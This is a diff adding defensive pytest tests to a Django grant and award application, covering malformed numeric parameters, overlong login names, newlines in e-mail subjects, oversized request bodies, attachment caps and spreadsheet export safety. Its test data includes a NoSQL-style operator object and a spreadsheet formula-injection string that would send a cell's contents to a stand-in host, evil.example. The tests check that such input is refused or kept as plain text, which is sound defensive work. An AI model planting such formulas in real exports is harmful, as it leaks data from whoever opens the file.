@@ -98,6 +98,7 @@ def test_hostile_objections_from_the_public_are_400(anon, call, draft, staff):
     bad(anon.post(url, {**good, "text": "异\x00议"}, format="json"), "text")
     bad(anon.post(url, {**good, "name": ["张三"]}, format="json"), "name")
     assert anon.post(url, {**good, "item": {"$gt": 0}}, format="json").status_code == 400
+    assert anon.post(url, {**good, "item": "²"}, format="json").status_code == 400  # isdigit() yet not int()
     assert not Objection.objects.exists()
     assert anon.post(url, good, format="json").status_code == 201
     assert Objection.objects.get().text == "数据不实"
@@ -537,3 +538,276 @@ def test_uploads_live_outside_the_web_root_and_are_served_only_after_the_check(
     assert b"".join(response.streaming_content) == PDF if response.streaming else response.content == PDF
     assert response["Content-Disposition"].startswith("attachment")
     assert response["X-Content-Type-Options"] == "nosniff"
+
+
+# --- issue 14.10: input that still broke things -------------------------------------------------
+
+SUPERSCRIPTS = ["²²²²", "²", "٢٠١٦", "２０１６"]  # str.isdigit() is true for all, int() fails on some
+
+
+@pytest.mark.parametrize("digits", SUPERSCRIPTS)
+def test_superscript_digits_in_numeric_query_parameters_are_not_a_500(client, client_for, staff, call, digits):
+    """``?year=²²²²`` and ``?cut_²=1`` passed an ``isdigit()`` check and broke ``int()``."""
+    api = client_for(staff)
+    for url in (f"/api/reports/programmes/?year={digits}", f"/api/reports/programmes.xlsx?year={digits}"):
+        bad(api.get(url), "year")
+    bad(api.get(f"/api/calls/{call.pk}/suggestions/?cut_{digits}=1"), f"cut_{digits}")
+    client.force_login(staff)
+    for url in (
+        f"/reports/programmes/?year={digits}",
+        f"/reports/programmes.xlsx?year={digits}",
+        f"/calls/{call.pk}/suggestions/?cut_{digits}=1",
+        f"/calls/{call.pk}/suggestions.xlsx?cut_{digits}=1",
+        f"/audit/?object={digits}",
+        f"/audit.xlsx?object={digits}",
+        f"/?apps-call={digits}&apps-page={digits}",
+        f"/experts/?page={digits}",
+    ):
+        assert client.get(url).status_code in (200, 400), url
+
+
+def test_parse_int_takes_ascii_digits_only():
+    from core.params import parse_int
+
+    assert parse_int("2016", digits=4) == 2016
+    assert [parse_int(v) for v in ("²", "٢", "２", "-1", " 1", "1 ", "1\n", "", None, "9" * 19, True)] == [None] * 11
+    assert parse_int("9" * 18) == int("9" * 18)
+
+
+def test_a_300_character_user_name_at_login_is_refused_not_a_500(client, anon, applicant):
+    """The failed attempt is recorded (django-axes) in a column of 255 characters at most."""
+    name = "用" * 300
+    response = client.post("/accounts/login/", {"username": name, "password": "whatever-1234"})
+    assert response.status_code in (200, 400, 429)
+    assert "_auth_user_id" not in client.session
+    response = anon.post("/api/auth/token/", {"username": name, "password": "whatever-1234"}, format="json")
+    assert response.status_code in (400, 429), response.content
+    # The right user still logs in afterwards.
+    from tests.conftest import PASSWORD
+
+    response = anon.post("/api/auth/token/", {"username": "applicant", "password": PASSWORD}, format="json")
+    assert response.status_code == 200
+
+
+def open_award_round(staff: Any, title: str) -> Any:
+    import datetime as dt
+
+    from django.utils import timezone
+
+    from awards.services import award_round_create
+    from tests.conftest import CRITERIA
+
+    now = timezone.now()
+    return award_round_create(
+        actor=staff,
+        title=title,
+        year=2016,
+        opens_at=now - dt.timedelta(days=1),
+        closes_at=now + dt.timedelta(days=3),
+        levels=[{"level": 1, "quota": 1, "bonus_yuan": "30000.00"}],
+        criteria=CRITERIA,
+    )
+
+
+@pytest.fixture
+def nomination(db, staff, nominator):
+    from awards.services import nomination_create
+    from workflow import steps
+
+    award_round = open_award_round(staff, "科学技术进步奖")
+    item = nomination_create(
+        actor=nominator,
+        award_round=award_round,
+        title="成果",
+        summary="成果简介",
+        field="manufacturing",
+        units=["永嘉县东蒙集团有限公司"],
+        persons=["王建国"],
+    )
+    steps.application_submit(application=item, actor=nominator)
+    return item
+
+
+#: Every plan-project step the application routes offer, with a body that passes validation,
+#: and who may call it: a nomination has no contract, acceptance or plan decision.
+PLAN_STEPS = [
+    ("contract", "nominator", {"accept_terms": True}),
+    ("acceptance", "nominator", {"report": "完成", "spent_yuan": "100.00"}),
+    ("acceptance-decision", "staff", {"result": "pass", "comment": ""}),
+    ("decision", "panel", {"fund": True, "approved_yuan": "100.00"}),
+    ("start-review", "staff", {}),
+    ("terminate", "staff", {"reason": "测试"}),
+]
+
+
+@pytest.mark.parametrize(("step", "who", "body"), PLAN_STEPS)
+def test_plan_project_steps_called_on_a_nomination_are_404_or_409(client_for, request, nomination, step, who, body):
+    response = client_for(request.getfixturevalue(who)).post(
+        f"/api/applications/{nomination.pk}/{step}/", body, format="json"
+    )
+    assert response.status_code in (200, 400, 404, 409), (step, response.status_code, response.content[:300])
+
+
+@pytest.mark.parametrize("step", ["contract", "acceptance", "acceptance_review"])
+def test_a_step_the_nominations_flow_lacks_is_a_conflict(nomination, step):
+    from core.errors import StateConflict
+    from workflow.steps import _node, _process_rows
+
+    process = _process_rows(nomination).get()
+    with pytest.raises(StateConflict):
+        _node(process, step)
+
+
+def test_a_title_with_a_line_break_still_gets_its_e_mails(
+    as_applicant, call, applicant, staff, django_capture_on_commit_callbacks, mailoutbox
+):
+    """The title reaches every subject about the item; a newline there made each e-mail fail
+    for good (BadHeaderError) while the in-app notice arrived, so nobody noticed."""
+    from notifications.enums import DeliveryState
+    from notifications.models import Notification
+
+    with django_capture_on_commit_callbacks(execute=True):
+        pk = as_applicant.post(
+            "/api/applications/", {"call": call.pk, **DRAFT, "title": "第一行\r\n第二行\u2028第三行"}, format="json"
+        ).json()["id"]
+        assert as_applicant.post(f"/api/applications/{pk}/submit/", {}, format="json").status_code == 200
+    sent = Notification.objects.filter(kind="submission_received")
+    assert sent.exists() and all(n.state == DeliveryState.SENT for n in sent)
+    assert {m.to[0] for m in mailoutbox} >= {applicant.email, staff.email}
+    for message in mailoutbox:
+        assert "\n" not in message.subject and "\r" not in message.subject
+        message.message()  # the headers are valid
+
+
+def test_one_line_subjects():
+    from notifications.channels import one_line
+
+    assert one_line("a\r\nb\nc\u2028d\x0be ") == "a b c d e"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+
+
+def _no_formulas(content: bytes) -> list[str]:
+    book = load_workbook(io.BytesIO(content))
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    return texts
+
+
+def test_a_formula_in_an_award_round_title_stays_text_in_the_round_report(client_for, client, staff):
+    award_round = open_award_round(staff, FORMULA)
+    response = client_for(staff).get(f"/api/award-rounds/{award_round.pk}/report.xlsx")
+    assert response.status_code == 200
+    assert FORMULA in _no_formulas(response.content)
+
+
+def test_every_xlsx_helper_writes_text_as_text_and_drops_what_xlsx_cannot_hold():
+    """Titles, sheet names and headers included; control characters (openpyxl's
+    IllegalCharacterError, a 500 for the whole export) are dropped."""
+    from reviews.exports import xlsx_table
+
+    hostile = FORMULA + "\x01\x1b"
+    content = xlsx_table("a/b:c*d?[e]" + "长" * 40, [FORMULA, "=1+1"], [[hostile, 1, "@SUM(1)"], ["+1", None, "-1"]])
+    texts = _no_formulas(content)
+    assert FORMULA in texts and "=1+1" in texts and "@SUM(1)" in texts
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert len(sheet.title) <= 31 and not set(sheet.title) & set("/:*?[]")
+
+
+def test_control_characters_in_a_title_do_not_break_the_exports(as_applicant, call, client, applicant, staff):
+    """openpyxl refuses control characters (IllegalCharacterError): one title broke the export."""
+    title = "标题\x01\x1b"
+    response = as_applicant.post("/api/applications/", {"call": call.pk, **DRAFT, "title": title}, format="json")
+    assert response.status_code == 201
+    client.force_login(applicant)
+    response = client.get("/?export=mine")
+    assert response.status_code == 200
+    assert "标题" in _no_formulas(response.content)
+    client.force_login(staff)
+    call.title = "=1+1\x02"
+    call.save()
+    for url in (f"/calls/{call.pk}/report.xlsx", "/audit.xlsx"):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        _no_formulas(response.content)
+
+
+def test_a_100_mb_json_body_is_413_before_it_is_read(as_applicant, call):
+    """DRF's JSON parser reads ``request.stream``, which DATA_UPLOAD_MAX_MEMORY_SIZE does not
+    guard: the announced length is refused before anything reads the body."""
+    import time
+
+    started = time.monotonic()
+    response = as_applicant.generic(
+        "POST",
+        "/api/applications/",
+        b'{"title": "x"}',
+        content_type="application/json",
+        CONTENT_LENGTH=str(100 * 1024 * 1024),
+    )
+    assert response.status_code == 413
+    assert "detail" in response.json()
+    assert time.monotonic() - started < 2
+    assert not Application.objects.exists()
+
+
+def test_a_json_body_without_a_length_is_read_no_further_than_the_limit():
+    """A chunked body announces no length: the parser stops one byte past the limit."""
+    from api.parsers import LimitedJSONParser, RequestTooLarge
+
+    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE
+
+    class Endless(io.RawIOBase):
+        read_so_far = 0
+
+        def read(self, size=-1):
+            assert size != -1, "read to the end"
+            self.read_so_far += size
+            return b" " * size
+
+    stream = Endless()
+    with pytest.raises(RequestTooLarge):
+        LimitedJSONParser().parse(stream, "application/json", {})
+    assert stream.read_so_far == limit + 1
+    assert LimitedJSONParser().parse(io.BytesIO(b'{"a": 1}'), "application/json", {}) == {"a": 1}
+
+
+def test_a_page_form_over_the_limit_is_413(client, applicant, call):
+    client.force_login(applicant)
+    response = client.generic(
+        "POST",
+        f"/calls/{call.pk}/apply/",
+        b"title=x",
+        content_type="application/x-www-form-urlencoded",
+        CONTENT_LENGTH=str(settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1),
+    )
+    assert response.status_code == 413
+
+
+def test_attachments_per_application_are_capped_by_count_and_total_size(as_applicant, draft, call):
+    pk = draft()
+    call.max_attachments = 2
+    call.max_attachments_mb = 1
+    call.save()
+    url = f"/api/applications/{pk}/attachments/"
+    for i in range(2):
+        response = as_applicant.post(url, {"file": SimpleUploadedFile(f"p{i}.pdf", PDF)}, format="multipart")
+        assert response.status_code == 201
+    response = as_applicant.post(url, {"file": SimpleUploadedFile("p3.pdf", PDF)}, format="multipart")
+    bad(response, "file")
+    assert "2" in response.json()["file"][0]
+    assert Attachment.objects.filter(application_id=pk).count() == 2
+    # By size: 1 MB in all, and the two small files already hold some of it.
+    call.max_attachments = 10
+    call.save()
+    big = SimpleUploadedFile("big.pdf", PDF + b"0" * (1024 * 1024))
+    response = as_applicant.post(url, {"file": big}, format="multipart")
+    bad(response, "file")
+    assert "1 MB" in response.json()["file"][0]
+    assert Attachment.objects.filter(application_id=pk).count() == 2
